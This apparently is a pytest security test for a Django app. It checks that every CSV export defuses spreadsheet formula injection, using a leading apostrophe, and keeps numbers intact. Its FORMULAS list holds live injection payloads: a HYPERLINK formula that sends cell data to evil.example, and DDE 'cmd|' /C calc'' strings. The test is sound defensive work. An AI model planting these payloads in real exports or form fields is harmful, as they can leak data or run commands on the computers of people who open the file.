"""CSV exports neutralise formula injection: no cell a spreadsheet would run as a formula.

Programme A's every user-writable field starts with a formula trigger (= + - @ tab CR). Every
route that answers text/csv (found by fetching every readable route, so a new export is covered
without being named here) must hand those cells back defused, while plain numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import itertools

import pytest
from django.test import Client

from tests.security.access_matrix import MATRIX
from tests.security.probe import body_text, param_values, url_for
from tests.security.routes import inventory
from tests.security.world import build_world

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
_counter = itertools.count()


def formula_text(kind: str) -> str:
    return f"{FORMULAS[next(_counter) % len(FORMULAS)]} {kind}"


@pytest.fixture
def formula_world(db, private_media):
    return build_world(a_text=formula_text)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _csv_exports(world, client):
    """(name, url, response) for every route of A that answers with CSV."""
    for name, routes in sorted(inventory().items()):
        entry = MATRIX.get(name)
        if entry is None or entry.kind != "page" or "GET" not in entry.methods:
            continue
        route = routes[0]
        variants = max((len(param_values(world.a).get(p, [1])) for p in route.params), default=1)
        for variant in range(variants):
            url = url_for(name, route.params, world.a, entry.obj, variant=variant)
            response = client.get(url)
            if response.get("Content-Type", "").startswith("text/csv"):
                yield name, url, response


def test_every_csv_export_defuses_formulas(formula_world):
    world = formula_world
    client = Client()
    client.force_login(world.a.user("lead"))
    exports, dangerous, cells = set(), [], 0
    for name, url, response in _csv_exports(world, client):
        exports.add(name)
        assert "attachment" in response.get("Content-Disposition", ""), url
        for row in csv.reader(io.StringIO(body_text(response))):
            for cell in row:
                cells += 1
                if cell.startswith(TRIGGERS) and not _is_number(cell):
                    dangerous.append(f"{url}: {cell[:60]!r}")
    assert {"tickets:export", "metrics:chart_csv"} <= exports, exports
    assert cells > 50
    assert not dangerous, "formula cells in CSV exports:\n" + "\n".join(sorted(set(dangerous)))


def test_the_ticket_export_keeps_the_text_readable(formula_world):
    world = formula_world
    client = Client()
    client.force_login(world.a.user("lead"))
    response = client.get(f"/p/{world.a.programme.slug}/tickets/export.csv")
    rows = list(csv.DictReader(io.StringIO(body_text(response))))
    titles = {row["title"] for row in rows}
    # Defused by a leading apostrophe, not mangled: the text after it is what was typed.
    assert any(title.startswith("'") and title[1:] in {t.title for t in world.a.programme.tickets.all()}
               for title in titles)  # fmt: skip
